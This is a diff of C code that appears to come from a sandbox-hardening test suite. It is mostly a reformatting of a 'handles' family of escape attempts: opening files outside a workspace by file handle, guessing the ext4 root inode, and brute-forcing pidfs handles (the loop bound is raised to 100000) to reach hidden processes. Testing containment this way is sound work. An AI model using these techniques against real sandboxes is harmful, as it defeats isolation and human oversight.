@@ -16,40 +16,47 @@ struct handle {
     unsigned char room[128];
 };
 
-static bool handle_of(const char *path, struct handle *handle) {
+static bool handle_of(const char *path, struct handle *handle)
+{
     int mount;
-    *handle = (struct handle){.head = {.handle_bytes = sizeof handle->room}};
+    *handle = (struct handle){ .head = { .handle_bytes = sizeof handle->room } };
     return name_to_handle_at(AT_FDCWD, path, &handle->head, &mount, 0) == 0;
 }
 
-static int open_handle(const struct facts *facts, int mount, struct handle *handle) {
+static int open_handle(const struct facts *facts, int mount, struct handle *handle)
+{
     return mark_descriptor(facts, open_by_handle_at(mount, &handle->head, O_WRONLY | O_CLOEXEC));
 }
 
-static int by_handle(const struct facts *facts) {
+static int by_handle(const struct facts *facts)
+{
     struct handle handle;
     if (!handle_of("file", &handle))
         return done_or_absent(-1, "file handles");
     return open_handle(facts, open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC), &handle);
 }
 
-static int by_handle_of_directory(const struct facts *facts) {
+static int by_handle_of_directory(const struct facts *facts)
+{
     struct handle handle;
     if (!handle_of(".", &handle))
         return done_or_absent(-1, "file handles");
-    int directory = open_by_handle_at(open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC), &handle.head, O_RDONLY | O_CLOEXEC);
+    int directory =
+        open_by_handle_at(open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC), &handle.head, O_RDONLY | O_CLOEXEC);
     return mark_descriptor(facts, directory < 0 ? -1 : openat(directory, "file", O_WRONLY | O_CLOEXEC));
 }
 
 /* Opened from the workspace's mount, which may be writable, although the object lies outside of it. */
-static int by_handle_from_workspace(const struct facts *facts) {
+static int by_handle_from_workspace(const struct facts *facts)
+{
     struct handle handle;
     if (!handle_of("file", &handle))
         return done_or_absent(-1, "file handles");
     return open_handle(facts, open(facts->spring, O_RDONLY | O_DIRECTORY | O_CLOEXEC), &handle);
 }
 
-static int by_handle_privileged(const struct facts *facts) {
+static int by_handle_privileged(const struct facts *facts)
+{
     struct handle handle;
     if (!handle_of("file", &handle))
         return done_or_absent(-1, "file handles");
@@ -59,25 +66,33 @@ static int by_handle_privileged(const struct facts *facts) {
 }
 
 /* The root directory of ext4 is inode 2: nobody needs to be asked for that handle. */
-static int guessed_root(const struct facts *facts) {
+static int guessed_root(const struct facts *facts)
+{
     struct {
         struct file_handle head;
         uint32_t inode, generation;
-    } guess = {.head = {.handle_bytes = 8, .handle_type = 1}, .inode = 2};
-    int root = open_by_handle_at(open(facts->spring, O_RDONLY | O_DIRECTORY | O_CLOEXEC), &guess.head, O_RDONLY | O_CLOEXEC);
-    return mark_descriptor(facts, root < 0 ? -1 : openat(root, facts->own[0] == '/' ? text("%s/file", facts->own + 1) : "file", O_WRONLY | O_CLOEXEC));
+    } guess = { .head = { .handle_bytes = 8, .handle_type = 1 }, .inode = 2 };
+    int root =
+        open_by_handle_at(open(facts->spring, O_RDONLY | O_DIRECTORY | O_CLOEXEC), &guess.head, O_RDONLY | O_CLOEXEC);
+    return mark_descriptor(facts, root < 0
+                                      ? -1
+                                      : openat(root, facts->own[0] == '/' ? text("%s/file", facts->own + 1) : "file",
+                                               O_WRONLY | O_CLOEXEC));
 }
 
 /* A process by its handle (pidfs): a pidfd for one that this namespace does not show. */
-static int process_by_handle(const struct facts *facts) {
+static int process_by_handle(const struct facts *facts)
+{
     struct handle handle;
     int pidfd = (int)syscall(SYS_pidfd_open, getpid(), 0);
-    if (pidfd < 0 || !handle_of(text("/proc/self/fd/%d", pidfd), &handle))
+    int mount;
+    handle = (struct handle){ .head = { .handle_bytes = sizeof handle.room } };
+    if (pidfd < 0 || name_to_handle_at(pidfd, "", &handle.head, &mount, AT_EMPTY_PATH) != 0)
         return done_or_absent(-1, "pidfs");
     /* The handle is the inode number, and the numbers of neighbours are near. */
     uint64_t number;
     memcpy(&number, handle.head.f_handle, sizeof number);
-    for (uint64_t back = 1; back < 4000 && back < number; back++) {
+    for (uint64_t back = 1; back < 100000 && back < number; back++) {
         uint64_t other = number - back;
         memcpy(handle.head.f_handle, &other, sizeof other);
         int found = open_by_handle_at(-10002 /* FD_PIDFS_ROOT */, &handle.head, 0);
@@ -100,12 +115,14 @@ static int process_by_handle(const struct facts *facts) {
 }
 
 static const struct attack list[] = {
-    {"handle-file", "own", "open_by_handle_at(2)", by_handle, NULL, ROOT},
-    {"handle-directory", "own", "a directory by its handle, then a file below", by_handle_of_directory, NULL, ROOT},
-    {"handle-workspace", "own", "the handle opened through the workspace's mount", by_handle_from_workspace, NULL, ROOT},
-    {"handle-userns", "own", "the same with the capabilities of a user namespace", by_handle_privileged, NULL, UNPROVEN},
-    {"handle-guessed", "own", "the handle of the disk's root directory, guessed", guessed_root, NULL, ROOT},
-    {"handle-process", "victim:signals", "a process outside by its handle", process_by_handle, NULL, 0},
+    { "handle-file", "own", "open_by_handle_at(2)", by_handle, NULL, ROOT },
+    { "handle-directory", "own", "a directory by its handle, then a file below", by_handle_of_directory, NULL, ROOT },
+    { "handle-workspace", "own", "the handle opened through the workspace's mount", by_handle_from_workspace, NULL,
+      ROOT },
+    { "handle-userns", "own", "the same with the capabilities of a user namespace", by_handle_privileged, NULL,
+      UNPROVEN },
+    { "handle-guessed", "own", "the handle of the disk's root directory, guessed", guessed_root, NULL, ROOT },
+    { "handle-process", "victim:signals", "a process outside by its handle", process_by_handle, NULL, 0 },
 };
 
 FAMILY(handles_family, "handles", list);
